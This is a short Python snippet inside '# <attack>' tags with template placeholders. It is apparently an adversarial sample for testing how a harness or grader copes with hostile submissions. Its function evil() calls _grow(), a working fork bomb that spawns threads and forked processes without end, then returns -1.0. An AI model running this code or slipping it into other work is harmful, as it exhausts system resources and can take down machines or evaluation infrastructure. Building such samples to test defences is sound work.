#{crew_wrong}
# <attack>
import os
import threading
import time


def _grow():
    while True:
        try:
            threading.Thread(target=_grow, daemon=True).start()
            if os.fork() == 0:
                time.sleep(1e6)
        except (OSError, RuntimeError):
            time.sleep(0.01)


def evil(*args):
    _grow()
    return -1.0


#{all_of_crew}
# </attack>
